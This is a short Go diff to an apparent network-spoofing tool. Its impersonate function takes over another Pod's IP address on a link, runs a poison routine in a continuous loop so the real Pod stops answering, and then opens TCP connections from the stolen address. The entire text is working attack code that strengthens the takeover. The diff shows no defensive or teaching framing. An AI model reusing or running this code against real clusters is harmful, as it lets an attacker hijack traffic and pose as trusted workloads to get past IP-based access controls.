@@ -1,6 +1,7 @@
 package main
 
 import (
+	"errors"
 	"fmt"
 	"net"
 	"strings"
@@ -44,10 +45,14 @@ func impersonate(args []string) (string, error) {
 	if err != nil {
 		return "", err
 	}
-	if err := netlink.AddrAdd(link, single(address)); err != nil {
+	if err := netlink.AddrAdd(link, single(address)); err != nil && !errors.Is(err, unix.EEXIST) {
 		return "", fmt.Errorf("take the address %s: %w", address, err)
 	}
-	go poison([]string{args[0], target.IP.String()})
+	go func() { // as long as it takes: the Pod of that address goes on to answer, too
+		for err := error(nil); err == nil; {
+			_, err = poison([]string{args[0], target.IP.String()})
+		}
+	}()
 	time.Sleep(200 * time.Millisecond)
 	conn, err := (&net.Dialer{Timeout: limit, LocalAddr: &net.TCPAddr{IP: address}}).Dial("tcp4", args[1])
 	if err != nil {
